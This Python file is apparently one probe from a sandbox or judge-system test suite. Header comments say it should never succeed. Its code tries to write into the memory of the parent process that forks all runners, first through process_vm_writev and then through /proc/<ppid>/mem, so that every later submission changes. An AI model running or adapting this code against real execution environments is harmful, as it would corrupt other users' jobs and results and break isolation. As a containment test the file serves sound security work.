# attack: Writes into the memory of the process from which all runners are forked; since it is forked, it knows the addresses.
# hurts: Changes what every later submission and its runner do.
# never: wrote to the parent
# ends: returns
import ctypes
import os
import sys

from _raw import attempt, call


def attack(target):
    text = sys.copyright
    place = id(text) + sys.getsizeof(text) - len(text) - 1
    parent = os.getppid()
    if parent == 0:
        return "no parent is visible"
    note = target["note"].encode()
    buffer = ctypes.create_string_buffer(note)
    ours = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), len(note))
    theirs = (ctypes.c_uint64 * 2)(place, len(note))
    _, error = call("process_vm_writev", parent, ours, 1, theirs, 1, 0)
    return [f"vectors: {error or 'wrote to the parent'}", attempt("proc", by_proc, parent, place, note)]


def by_proc(parent, place, note):
    descriptor = os.open(f"/proc/{parent}/mem", os.O_RDWR)
    try:
        os.pwrite(descriptor, note, place)
    finally:
        os.close(descriptor)
    return "wrote to the parent"
